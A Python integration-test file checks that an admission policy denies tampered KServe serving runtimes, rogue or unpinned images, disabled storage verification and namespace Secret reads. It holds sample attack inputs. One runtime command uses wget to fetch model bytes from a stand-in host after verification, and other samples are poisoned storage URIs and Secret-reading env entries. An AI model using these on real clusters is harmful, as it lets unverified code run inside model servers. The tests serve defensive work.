"""Property 6, runtimes: every image of a ServingRuntime or ClusterServingRuntime (containers, workerSpec
containers and image volumes; KServe's schema has no initContainers) is pinned by digest and allow-listed by a
ClusterModelPolicy that selects the namespace, and it reads nothing by name from the model's namespace (no
ConfigMap, Secret or claim: that is the namespace editor's); a runtime a namespace editor made is never picked for
a devmlops model; the KServe kinds devmlops renders none of (TrainedModel, LLMInferenceService, InferenceGraph) are
denied under enforcement, since a TrainedModel loads bytes into a running server."""

from __future__ import annotations

import hashlib
import time
from collections.abc import Iterator
from typing import Any

import pytest
from kubernetes import client as k8s

from devmlops.core.render import registry_auth_env
from devmlops.harness.stack import DevmlopsStack
from tests.integration.attacks.conftest import (
    ALLOWED_IMAGES,
    KSERVE_GROUP,
    ROGUE,
    SKLEARN_SERVER,
    KServePods,
    Served,
    admitted,
    as_dict,
    cluster_serving_runtime,
    denied,
    devmlops_denial,
    policy_name,
    refused_by_devmlops,
    serving_runtime,
    why_not,
)
from tests.integration.support import GROUP, VERSION, SignedModel, signed_by_evidence, trusting

RUNTIMES = (KSERVE_GROUP, "v1alpha1")
UNPINNED = SKLEARN_SERVER.split("@")[0] + ":v0.16.0"


def create_runtime(client: k8s.ApiClient, namespace: str, body: dict[str, Any]) -> Any:
    return k8s.CustomObjectsApi(client).create_namespaced_custom_object(*RUNTIMES, namespace, "servingruntimes", body)


def create_cluster_runtime(client: k8s.ApiClient, body: dict[str, Any]) -> Any:
    """Create a ClusterServingRuntime that is expected to be denied (if admitted, remove it again and say so)."""
    api = k8s.CustomObjectsApi(client)
    created = api.create_cluster_custom_object(*RUNTIMES, "clusterservingruntimes", body)
    api.delete_cluster_custom_object(*RUNTIMES, "clusterservingruntimes", body["metadata"]["name"])
    return created


@pytest.fixture
def selected_plain_namespace(
    admin: k8s.ApiClient, stack: DevmlopsStack, plain_namespace: str, attack_model: SignedModel
) -> Iterator[str]:
    """A namespace not under enforcement that a ClusterModelPolicy selects, allow-listing ``ALLOWED_IMAGES``."""
    policy = policy_name(plain_namespace)
    with trusting(admin, stack, plain_namespace, attack_model, policy=policy, allow={"images": list(ALLOWED_IMAGES)}):
        yield plain_namespace


def unique(request: pytest.FixtureRequest, prefix: str) -> str:
    return f"{prefix}-{hashlib.sha256(request.node.nodeid.encode()).hexdigest()[:8]}"


# -- ServingRuntimes a namespace editor writes -------------------------------------------------------------------


def test_a_serving_runtime_with_an_image_not_pinned_by_digest_is_denied(
    mallory: k8s.ApiClient, enforced_namespace: str, trusted: dict[str, Any]
) -> None:
    message = denied(create_runtime, mallory, enforced_namespace, serving_runtime("sklearn", UNPINNED))
    assert "ServingRuntime" in message


def test_a_serving_runtime_with_a_pinned_image_no_policy_allows_is_denied(
    mallory: k8s.ApiClient, enforced_namespace: str, trusted: dict[str, Any]
) -> None:
    denied(create_runtime, mallory, enforced_namespace, serving_runtime("sklearn", ROGUE))


def test_a_serving_runtime_with_an_unlisted_sidecar_container_is_denied(
    mallory: k8s.ApiClient, enforced_namespace: str, trusted: dict[str, Any]
) -> None:
    body = serving_runtime("sklearn", SKLEARN_SERVER, sidecar_images=(ROGUE,))
    denied(create_runtime, mallory, enforced_namespace, body)


def test_a_serving_runtime_that_turns_off_the_verifying_storage_initializer_is_denied(
    mallory: k8s.ApiClient, enforced_namespace: str, trusted: dict[str, Any]
) -> None:
    """Allowed image, but ``storageHelper.disabled``: KServe would start the server without the devmlops storage
    initializer, so nothing checks the bytes it loads."""
    body = serving_runtime("sklearn", SKLEARN_SERVER)
    body["spec"]["storageHelper"] = {"disabled": True}
    denied(create_runtime, mallory, enforced_namespace, body)


def test_a_serving_runtime_with_an_unlisted_worker_image_is_denied(
    mallory: k8s.ApiClient, enforced_namespace: str, trusted: dict[str, Any]
) -> None:
    body = serving_runtime("sklearn", SKLEARN_SERVER, worker_images=(ROGUE,))
    denied(create_runtime, mallory, enforced_namespace, body)


def test_a_serving_runtime_in_a_namespace_no_policy_selects_is_denied(
    mallory: k8s.ApiClient, enforced_namespace: str
) -> None:
    """Nothing allow-lists anything here: deny by default, even for a pinned, well-known image."""
    denied(create_runtime, mallory, enforced_namespace, serving_runtime("sklearn", SKLEARN_SERVER))


def test_a_serving_runtime_named_like_kserves_own_with_a_rogue_image_is_denied(
    mallory: k8s.ApiClient, enforced_namespace: str, trusted: dict[str, Any]
) -> None:
    body = serving_runtime("kserve-sklearnserver", ROGUE)
    denied(create_runtime, mallory, enforced_namespace, body)


def test_a_serving_runtime_that_shadows_the_models_cluster_runtime_is_denied_even_with_an_allowed_image(
    admin: k8s.ApiClient,
    mallory: k8s.ApiClient,
    enforced_namespace: str,
    trusted: dict[str, Any],
    request: pytest.FixtureRequest,
) -> None:
    """KServe resolves ``predictor.model.runtime`` to a namespaced ServingRuntime before a ClusterServingRuntime of
    the same name: a namespace editor's runtime would be picked for the devmlops model. Its image is allowed; its
    command fetches other bytes after the verifier ran."""
    name = unique(request, "atk-sklearn")
    with cluster_serving_runtime(admin, serving_runtime(name, SKLEARN_SERVER, kind="ClusterServingRuntime")):
        shadow = serving_runtime(
            name,
            SKLEARN_SERVER,
            command=["sh", "-c", "wget -qO /mnt/models/model.joblib http://x/m && exec python -m sklearnserver"],
        )
        denied(create_runtime, mallory, enforced_namespace, shadow)


@pytest.mark.parametrize("image", [SKLEARN_SERVER, ROGUE, UNPINNED], ids=["allowed", "rogue", "unpinned"])
def test_a_namespaced_serving_runtime_is_denied_even_outside_enforcement(
    mallory: k8s.ApiClient, selected_plain_namespace: str, image: str
) -> None:
    """KServe picks a namespaced runtime by name before the cluster's, and auto-selects among namespaced ones: a
    namespace editor's runtime (its command, arguments, storage settings) must never serve a devmlops model, so none
    is admitted, whatever its images. Only devmlops writes InferenceServices: a namespaced runtime serves nothing."""
    message = denied(create_runtime, mallory, selected_plain_namespace, serving_runtime("sklearn", image))
    assert "auto-selected" in message


def test_pointing_a_model_deployment_at_a_serving_image_no_policy_allows_is_denied(
    mallory: k8s.ApiClient, served_triton: Served
) -> None:
    """The runtime a ModelDeployment names is allow-listed by the cluster policy: a pinned image is not enough."""
    api = k8s.CustomObjectsApi(mallory)
    patch = {"spec": {"runtime": {"image": ROGUE}}}
    denied(
        api.patch_namespaced_custom_object, GROUP, VERSION, served_triton.namespace, "modeldeployments", "fraud", patch
    )


# -- ClusterServingRuntimes: the cluster admin is held to the allow-list too -------------------------------------


def test_a_cluster_serving_runtime_with_an_image_not_pinned_by_digest_is_denied_even_for_the_cluster_admin(
    admin: k8s.ApiClient, trusted: dict[str, Any], request: pytest.FixtureRequest
) -> None:
    body = serving_runtime(unique(request, "atk-unpinned"), UNPINNED, kind="ClusterServingRuntime")
    denied(create_cluster_runtime, admin, body)


def test_a_cluster_serving_runtime_with_a_worker_image_no_policy_allows_is_denied(
    admin: k8s.ApiClient, trusted: dict[str, Any], request: pytest.FixtureRequest
) -> None:
    name = unique(request, "atk-rogue")
    body = serving_runtime(name, SKLEARN_SERVER, kind="ClusterServingRuntime", worker_images=(ROGUE,))
    denied(create_cluster_runtime, admin, body)


def test_a_cluster_serving_runtime_with_a_rogue_server_image_is_denied(
    admin: k8s.ApiClient, trusted: dict[str, Any], request: pytest.FixtureRequest
) -> None:
    body = serving_runtime(unique(request, "atk-rogue-server"), ROGUE, kind="ClusterServingRuntime")
    denied(create_cluster_runtime, admin, body)


def test_swapping_the_image_of_the_cluster_runtime_a_model_is_served_by_is_denied(
    admin: k8s.ApiClient, kserve_pods: KServePods
) -> None:
    """The runtime was admitted; an update is judged again, whoever sends it."""
    name = kserve_pods.runtime["metadata"]["name"]
    api = k8s.CustomObjectsApi(admin)
    for image in (ROGUE, UNPINNED):
        patch = {"spec": {"containers": [{"name": "kserve-container", "image": image}]}}
        denied(api.patch_cluster_custom_object, *RUNTIMES, "clusterservingruntimes", name, patch)


def test_a_model_on_a_cluster_runtime_without_the_verifying_storage_initializer_is_never_served(
    admin: k8s.ApiClient,
    enforced_namespace: str,
    attack_model: SignedModel,
    trusted: dict[str, Any],
    request: pytest.FixtureRequest,
) -> None:
    """A cluster admin's runtime with ``storageHelper.disabled`` (a misconfiguration, or a runtime made for other
    models): whatever KServe renders from it, no predictor Pod may run without the verification step. Denying the
    runtime, the ModelDeployment or the Pods all pass; a Pod without the storage initializer does not."""
    name = unique(request, "atk-nohelper")
    body = serving_runtime(name, SKLEARN_SERVER, kind="ClusterServingRuntime")
    body["spec"]["storageHelper"] = {"disabled": True}
    api = k8s.CustomObjectsApi(admin)
    if refused_by_devmlops(api.create_cluster_custom_object, *RUNTIMES, "clusterservingruntimes", body):
        return
    try:
        runtime = {"kind": "kserve", "servingRuntime": name}
        doc = signed_by_evidence("fraud", attack_model, runtime=runtime)
        create = api.create_namespaced_custom_object
        if refused_by_devmlops(create, GROUP, VERSION, enforced_namespace, "modeldeployments", doc):
            return
        core = k8s.CoreV1Api(admin)

        def pods_refused() -> bool:
            events = core.list_namespaced_event(enforced_namespace).items
            return any(e.reason == "FailedCreate" and "devmlops" in (e.message or "") for e in events)

        def predictor_pods() -> list[dict[str, Any]]:
            selector = "serving.kserve.io/inferenceservice=fraud"
            return [as_dict(p) for p in core.list_namespaced_pod(enforced_namespace, label_selector=selector).items]

        def verified(made: dict[str, Any]) -> bool:
            return any(c["name"] == "storage-initializer" for c in made["spec"].get("initContainers") or [])

        deadline = time.monotonic() + 60
        while not (pods_refused() or predictor_pods()):
            if time.monotonic() > deadline:
                pytest.fail(f"no predictor Pod and no refusal within 60s: {why_not(admin, enforced_namespace)}")
            time.sleep(0.5)
        unverified = [p["metadata"]["name"] for p in predictor_pods() if not verified(p)]
        assert not unverified, f"predictor Pods run without the verifying storage initializer: {unverified}"
    finally:
        api.delete_cluster_custom_object(*RUNTIMES, "clusterservingruntimes", name)


# -- kinds devmlops renders none of ------------------------------------------------------------------------------


def test_a_trained_model_that_loads_bytes_into_the_running_inference_service_is_denied(
    mallory: k8s.ApiClient, served_kserve: Served
) -> None:
    body = {
        "apiVersion": f"{KSERVE_GROUP}/v1alpha1",
        "kind": "TrainedModel",
        "metadata": {"name": "fraud-v2"},
        "spec": {
            "inferenceService": served_kserve.child["metadata"]["name"],
            "model": {"storageUri": "s3://mallory/poisoned", "framework": "sklearn", "memory": "1Gi"},
        },
    }
    api = k8s.CustomObjectsApi(mallory)
    denied(api.create_namespaced_custom_object, *RUNTIMES, served_kserve.namespace, "trainedmodels", body)


def test_an_llm_inference_service_is_denied(mallory: k8s.ApiClient, enforced_namespace: str) -> None:
    body = {
        "apiVersion": f"{KSERVE_GROUP}/v1alpha1",
        "kind": "LLMInferenceService",
        "metadata": {"name": "chat"},
        "spec": {"model": {"uri": "hf://mallory/unsigned-llm", "name": "chat"}, "replicas": 1},
    }
    api = k8s.CustomObjectsApi(mallory)
    denied(api.create_namespaced_custom_object, *RUNTIMES, enforced_namespace, "llminferenceservices", body)


def test_an_inference_graph_in_front_of_the_model_is_denied(mallory: k8s.ApiClient, served_kserve: Served) -> None:
    body = {
        "apiVersion": f"{KSERVE_GROUP}/v1alpha1",
        "kind": "InferenceGraph",
        "metadata": {"name": "fraud-graph"},
        "spec": {
            "nodes": {
                "root": {
                    "routerType": "Sequence",
                    "steps": [{"serviceName": served_kserve.child["metadata"]["name"], "name": "fraud"}],
                }
            }
        },
    }
    api = k8s.CustomObjectsApi(mallory)
    denied(api.create_namespaced_custom_object, *RUNTIMES, served_kserve.namespace, "inferencegraphs", body)


# Each way a runtime's container reads an object of the model's namespace by name (KServe merges the runtime into the
# predictor Deployment there, where mallory writes ConfigMaps and Secrets), and the field the denial must name.
NAMESPACE_READS: dict[str, tuple[dict[str, Any], dict[str, Any], str]] = {
    "env-from-config-map": (
        {
            "env": [
                {"name": "MLSERVER_MODEL_IMPLEMENTATION", "valueFrom": {"configMapKeyRef": {"name": "s", "key": "k"}}}
            ]
        },
        {},
        "spec.containers[0].env[0].valueFrom.configMapKeyRef",
    ),
    "env-from-secret": (
        {"env": [{"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k", "optional": True}}}]},
        {},
        "spec.containers[0].env[0].valueFrom.secretKeyRef",
    ),
    "env-from-whole-config-map": (
        {"envFrom": [{"configMapRef": {"name": "settings"}}]},
        {},
        "spec.containers[0].envFrom[0]",
    ),
    "config-map-volume": (
        {"volumeMounts": [{"name": "settings", "mountPath": "/opt/settings"}]},
        {"volumes": [{"name": "settings", "configMap": {"name": "mlserver-settings"}}]},
        "spec.volumes[0]",
    ),
    "claim-volume": (
        {"volumeMounts": [{"name": "cache", "mountPath": "/cache"}]},
        {"volumes": [{"name": "cache", "persistentVolumeClaim": {"claimName": "model-cache"}}]},
        "spec.volumes[0]",
    ),
    "projected-secret": (
        {"volumeMounts": [{"name": "p", "mountPath": "/p"}]},
        {"volumes": [{"name": "p", "projected": {"sources": [{"secret": {"name": "s"}}]}}]},
        "spec.volumes[0].projected.sources[0]",
    ),
    "worker-env-from": (
        {},
        {
            "workerSpec": {
                "containers": [{"name": "worker", "image": SKLEARN_SERVER, "envFrom": [{"secretRef": {"name": "s"}}]}]
            }
        },
        "spec.workerSpec.containers[0].envFrom[0]",
    ),
}


def test_a_cluster_serving_runtime_that_reads_configuration_from_the_models_namespace_is_denied_naming_the_field(
    admin: k8s.ApiClient, trusted: dict[str, Any], request: pytest.FixtureRequest
) -> None:
    """A ClusterServingRuntime's references by name resolve in each model's namespace, where mallory writes ConfigMaps
    and Secrets: her ConfigMap mounted into the model server (MLServer's settings, a module on its PYTHONPATH) or
    her variable (MLSERVER_MODEL_IMPLEMENTATION picks the Python class that loads the model; ``$(VAR)`` expands into
    the server's arguments) would decide what the verified model server runs. Refused even for the cluster admin, as
    an unpinned image is."""
    wrong: list[str] = []
    for case, (server, extra, field) in NAMESPACE_READS.items():
        body = serving_runtime(unique(request, f"atk-{case}"), SKLEARN_SERVER, kind="ClusterServingRuntime", **server)
        body["spec"].update(extra)
        message = devmlops_denial(create_cluster_runtime, admin, body)
        if message is None:
            wrong.append(f"{case}: admitted")
        elif field not in message:
            wrong.append(f"{case}: denied without naming {field}: {message}")
    assert not wrong, "\n".join(wrong)


def test_a_cluster_serving_runtime_that_mounts_an_image_no_policy_allows_is_denied(
    admin: k8s.ApiClient, trusted: dict[str, Any], request: pytest.FixtureRequest
) -> None:
    """An image volume is bytes in the model server like its own image: pinned and allow-listed, or refused."""
    body = serving_runtime(unique(request, "atk-image-volume"), SKLEARN_SERVER, kind="ClusterServingRuntime")
    body["spec"]["volumes"] = [{"name": "plugins", "image": {"reference": ROGUE}}]
    assert ROGUE in denied(create_cluster_runtime, admin, body)


# -- positive controls -------------------------------------------------------------------------------------------


def test_a_cluster_serving_runtime_whose_images_are_pinned_and_allow_listed_is_admitted(
    admin: k8s.ApiClient, trusted: dict[str, Any], request: pytest.FixtureRequest
) -> None:
    body = serving_runtime(unique(request, "atk-allowed"), SKLEARN_SERVER, kind="ClusterServingRuntime")
    created = admitted(create_cluster_runtime, admin, body)
    assert created["spec"]["containers"][0]["image"] == SKLEARN_SERVER
    # what comes from the Pod itself, not from the namespace, is the runtime's to use
    literal = [{"name": "MLSERVER_PARALLEL_WORKERS", "value": "0"}, {"name": "POD", "valueFrom": own_name()}]
    mounts = [{"name": "scratch", "mountPath": "/scratch"}, {"name": "token", "mountPath": "/token"}]
    body = serving_runtime(
        unique(request, "atk-own-volumes"),
        SKLEARN_SERVER,
        kind="ClusterServingRuntime",
        env=literal,
        volumeMounts=mounts,
    )
    token = {"serviceAccountToken": {"path": "t", "audience": "registry"}}
    body["spec"]["volumes"] = [
        {"name": "scratch", "emptyDir": {}},
        {"name": "token", "projected": {"sources": [token]}},
    ]
    admitted(create_cluster_runtime, admin, body)


def own_name() -> dict[str, Any]:
    return {"fieldRef": {"fieldPath": "metadata.name"}}


def test_the_predictor_pods_kserve_makes_for_an_admitted_model_are_admitted(kserve_pods: KServePods) -> None:
    """The whole chain (operator -> InferenceService -> KServe -> Deployment -> ReplicaSet -> Pods) gets through,
    and what runs is the cluster admin's runtime image."""
    for made in kserve_pods.pods:
        images = [c["image"] for c in made["spec"]["containers"]]
        assert SKLEARN_SERVER in images
        assert ROGUE not in images


def test_kserve_gives_the_predictor_pods_initializer_the_teams_registry_secret_reference(
    kserve_pods: KServePods,
) -> None:
    """config/kserve's ClusterStorageContainer, copied by KServe into each predictor Pod (and admitted by the webhook
    as the Pods above are): the optional reference to the Secret of the fixed name, resolved in the Pod's namespace,
    in the storage initializer only."""
    for made in kserve_pods.pods:
        (initializer,) = [c for c in made["spec"]["initContainers"] if c["name"] == "storage-initializer"]
        assert registry_auth_env() in initializer["env"]
        assert initializer["command"] == ["devmlops", "storage-initializer"]
        assert all(registry_auth_env() not in (c.get("env") or []) for c in made["spec"]["containers"])
